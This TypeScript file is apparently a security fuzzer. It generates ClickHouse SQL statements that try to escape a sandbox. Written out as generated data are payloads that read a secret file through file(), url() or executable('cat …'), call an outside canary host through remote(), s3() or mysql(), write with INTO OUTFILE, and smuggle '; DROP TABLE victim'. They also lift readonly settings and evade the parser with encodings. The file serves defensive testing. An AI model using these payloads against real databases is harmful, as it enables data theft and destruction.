// Statements that try to get out of the database, by the thousand: every way in which ClickHouse
// reaches a file, a host, a program or its own settings, within every construct that may hold it,
// written in every way in which its parser reads a name and a string. The same seed gives the same
// statements.
import type { Random } from "../../algorithms/numeric/random.ts";

export interface FuzzTargets {
  /** Path of a file that must not be read. */
  secret: string;
  /** Path at which nothing may be written. */
  out: string;
  /** host:port that must not be called. */
  canary: string;
}

export interface FuzzStatement {
  sql: string;
  /** Parameters of the URL. */
  search: string;
}

export function sqlFuzz(random: Random, { secret, out, canary }: FuzzTargets): () => FuzzStatement {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const chance = (share: number): boolean => random() < share;

  /** The same name for ClickHouse's parser. */
  const name = (text: string): string =>
    pick([
      (): string => text,
      () => text,
      () => text,
      () => text,
      () => text.toUpperCase(),
      () => text.replace(/./g, (letter) => (chance(0.5) ? letter.toUpperCase() : letter)),
      () => `\`${text}\``,
      () => `"${text}"`,
      () => `“${text}”`,
      () => `\`${text.replace(/^./, (first) => `\\x${first.charCodeAt(0).toString(16)}`)}\``,
    ])();
  const gap = (): string =>
    pick(["", "", "", " ", "\n", "\t", "/**/", " /* ) */ ", "-- x\n", "#! x\n", "\u00a0", "\u2003", "\r\n", "\f"]);
  const text = (value: string): string =>
    pick([
      (): string => `'${value}'`,
      () => `'${value}'`,
      () => `$$${value}$$`,
      () => `$tag$${value}$tag$`,
      () => `‘${value}’`,
      () => `'${value.replace(/\//g, "\\x2f")}'`,
      () => `concat('${value.slice(0, 4)}', '${value.slice(4)}')`,
      () => `unhex('${Buffer.from(value).toString("hex")}')`,
      () => `{path:String}`,
      () => `''''`,
    ])();
  const call = (title: string, ...values: string[]): string =>
    `${name(title)}${gap()}(${gap()}${values.join(`,${gap()}`)}${gap()})`;

  /** A table that is none of ours. */
  const source = (): string =>
    pick([
      (): string => call("file", text(secret), text("LineAsString")),
      () => call("file", text(secret), pick(["CSV", "RawBLOB", "'TSV'"]), text("a String")),
      () => call("file", text(`${secret.replace(/[^/]*$/, "")}*`), text("LineAsString")),
      () => call("url", text(`file://${secret}`), text("LineAsString")),
      () => call("url", text(`http://${canary}/`), text("LineAsString")),
      () => call("urlCluster", text("default"), text(`http://${canary}/`), text("CSV")),
      () => call("fileCluster", text("default"), text(secret), text("CSV")),
      () => call("s3", text(`http://${canary}/b/k`), text("CSV"), text("a String")),
      () => call("gcs", text(`http://${canary}/b/k`), text("CSV"), text("a String")),
      () => call("hdfs", text(`hdfs://${canary}/x`), text("CSV"), text("a String")),
      () => call("azureBlobStorage", text(`http://${canary}/`), text("c"), text("b"), text("CSV"), text("a String")),
      () => call("remote", text(canary), "system", "one"),
      () => call("remoteSecure", text(canary), "system.one"),
      () => call("mysql", text(canary), text("d"), text("t"), text("u"), text("p")),
      () => call("postgresql", text(canary), text("d"), text("t"), text("u"), text("p")),
      () => call("mongodb", text(canary), text("d"), text("c"), text("u"), text("p"), text("a String")),
      () => call("redis", text(canary), text("k"), text("k String")),
      () => call("sqlite", text(secret), text("t")),
      () => call(pick(["odbc", "jdbc"]), text(`http://${canary}/`), text("d"), text("t")),
      () => call("executable", text(`cat ${secret}`), text("TSV"), text("a String")),
      () => call(pick(["icebergLocal", "deltaLakeLocal", "paimonLocal"]), text(secret)),
      () => call(pick(["iceberg", "deltaLake", "hudi", "paimon"]), text(`http://${canary}/b/k`)),
      () => call("cluster", text("default"), "system", "one"),
      () => call("input", text("a String")),
      () => call("eval", text("SELECT 1")),
      () => call("merge", text("system"), text("one")),
      () => call("arrowstream", text(secret)),
      () => call("Python", text("x")),
      () => call("view", `SELECT * FROM ${call("file", text(secret), text("LineAsString"))}`),
      () => call(pick(["loop", "mergeTreeIndex", "dictionary", "viewIfPermitted", "fuzzQuery"]), text(secret)),
      () => `\`${secret}\``,
      () => `default.\`${secret}\``,
      () => `'${secret}'`,
      () => `{table:Identifier}`,
    ])();
  /** A value that is none of ours. */
  const value = (): string =>
    pick([
      (): string => call("file", text(secret)),
      () => call("arrayMap", name("file"), `[${text(secret)}]`),
      () => `arrayMap(x -> ${call("file", "x")}, [${text(secret)}])`,
      () => `arrayMap({f:Identifier}, [${text(secret)}])`,
      () => call("catboostEvaluate", text(secret), "1"),
      () => call(pick(["aiGenerate", "aiClassify", "aiEmbed"]), text(`http://${canary}/`), text("x")),
      () => call("naiveBayesClassifier", text(secret), text("x")),
      () => call("getServerSetting", text("path")),
      () => call(pick(["showCertificate", "fuzzQuery", "logTrace"]), text("x")),
      () => call("joinGet", text(secret), text("a"), "1"),
      () => call("dictGet", text(secret), text("a"), "1"),
      () => `(SELECT * FROM ${source()} LIMIT 1)`,
    ])();
  const setting = (): string =>
    `${pick(["readonly", "format_schema", "max_execution_time", "dialect", "allow_experimental_eval_table_function", "profile", "max_threads", "user_files_path"])}=${pick(["0", "1", "'0'", "DEFAULT", "99999999", "'kusto'", "-1"])}`;

  const select = (depth: number): string => {
    const from = depth > 0 && chance(0.6) ? `(${select(depth - 1)})` : chance(0.8) ? source() : "victim";
    const what =
      from === "victim" || chance(0.25)
        ? value()
        : pick(["*", "*", "count()", "*, 1", "* APPLY(file)", "* APPLY toString"]);
    const body = `SELECT${gap() || " "}${what} FROM ${from}`;
    return pick([
      (): string => body,
      () => body,
      () => `${body} WHERE 1 IN (${depth > 0 ? select(depth - 1) : "1"})`,
      () => `WITH c AS (${body}) SELECT * FROM c`,
      () => `WITH (${body}) AS c SELECT c`,
      () => `SELECT 1 UNION ALL ${body}`,
      () => `${body} UNION DISTINCT SELECT '1'`,
      () => `SELECT * FROM numbers(1) AS n JOIN (${body}) AS j ON 1`,
      () => `SELECT * FROM victim, ${from}`,
      () => `FROM ${from} SELECT ${what}`,
      () => `SELECT EXISTS(${body})`,
      () => `SELECT 1 ORDER BY (${body})`,
      () => `SELECT * FROM (EXPLAIN ${body})`,
      () => `${body} LIMIT 1 SETTINGS ${setting()}`,
      () => `(${body})`,
    ])();
  };
  const statement = (): string => {
    const inner = select(Math.floor(random() * 4));
    return pick([
      (): string => inner,
      () => inner,
      () => inner,
      () => inner,
      () => `DESCRIBE TABLE ${source()}`,
      () => `DESC ${source()}`,
      () => `DESCRIBE (${inner})`,
      () =>
        `EXPLAIN ${pick(["", "AST ", "SYNTAX ", "QUERY TREE ", "PLAN ", "PIPELINE ", "ESTIMATE ", "TABLE OVERRIDE "])}${inner}`,
      () => `EXISTS TABLE ${source()}`,
      () => `INSERT INTO victim ${inner}`,
      () => `INSERT INTO victim (a) VALUES (${value()})`,
      () => `INSERT INTO victim FORMAT Values (${value()})`,
      () => `INSERT INTO ${pick(["", "TABLE "])}FUNCTION ${source()} SELECT 1`,
      () => `INSERT INTO victim FROM INFILE ${text(secret)} FORMAT LineAsString`,
      () => `INSERT INTO victim FORMAT CSV\n"x"\n\n${inner}`,
      () => `CREATE TABLE f${Math.floor(random() * 9)} AS ${source()}`,
      () =>
        `CREATE TABLE f (a String) ENGINE = ${pick(["File(CSV, ", "URL(", "S3(", "Executable(", "SQLite("])}${text(secret)}, 'CSV')`,
      () =>
        `CREATE TABLE f (a String) ENGINE=MergeTree ORDER BY a SETTINGS disk = disk(type = 'local', path = ${text(secret)})`,
      () => `CREATE TABLE f ENGINE=Memory AS ${inner}`,
      () => `CREATE ${pick(["OR REPLACE VIEW", "VIEW", "MATERIALIZED VIEW"])} f AS ${inner}`,
      () =>
        `CREATE DATABASE f ENGINE = ${pick([`Filesystem(${text("/")})`, `MySQL(${text(canary)}, 'd', 'u', 'p')`, `SQLite(${text(secret)})`])}`,
      () =>
        `CREATE DICTIONARY f (a String) PRIMARY KEY a SOURCE(FILE(path ${text(secret)} format 'CSV')) LAYOUT(FLAT())`,
      () => `CREATE FUNCTION f AS (x) -> ${call("file", "x")}`,
      () => `CREATE TEMPORARY TABLE f AS ${inner}`,
      () => `ATTACH TABLE f FROM ${text(secret)} (a String) ENGINE = File(CSV)`,
      () => `BACKUP TABLE victim TO ${pick(["File", "Disk"])}(${text(out)})`,
      () => `RESTORE TABLE f FROM File(${text(secret)})`,
      () => `SYSTEM ${pick(["SHUTDOWN", "RELOAD CONFIG", "DROP DNS CACHE", "FLUSH LOGS"])}`,
      () => `SET ${setting()}`,
      () =>
        `ALTER TABLE victim ${pick(["FREEZE", "UPDATE a = 'x' WHERE 1", "DELETE WHERE 1", `ATTACH PARTITION ALL FROM ${text(secret)}`])}`,
      () =>
        pick([
          "DROP TABLE victim",
          "TRUNCATE TABLE victim",
          "DELETE FROM victim WHERE 1",
          "RENAME TABLE victim TO f",
          "KILL QUERY WHERE 1",
        ]),
    ])();
  };
  const suffix = (): string =>
    pick([
      ...["", "", "", "", "", ";", " FORMAT JSON", " FORMAT LineAsString", " FORMAT Template", " -- x", " /* x"],
      ...[` INTO OUTFILE '${out}'`, ` INTO/**/OUTFILE '${out}' TRUNCATE`, "; SELECT 1", "; DROP TABLE victim"],
      ...[
        "\0",
        "\u00a0",
        " SETTINGS readonly=0",
        " PARALLEL WITH DROP TABLE victim",
        ")",
        "'",
        " FORMAT TSV SETTINGS max_threads=1",
      ],
    ]);

  return () => {
    const before = (): string =>
      pick([
        "",
        "",
        "",
        "",
        " ",
        "\n",
        "/* x */",
        "-- x\n",
        "#!x\n",
        "(",
        ";",
        "\ufeff",
        "EXPLAIN ",
        "EXECUTE AS default ",
      ]);
    const parameters = `&param_path=${encodeURIComponent(secret)}&param_f=file&param_table=${encodeURIComponent(secret)}`;
    return {
      sql: (chance(0.3) ? before() : "") + statement() + (chance(0.4) ? suffix() : ""),
      search: parameters + (chance(0.1) ? `&${setting()}` : "") + (chance(0.05) ? "&database=default" : ""),
    };
  };
}
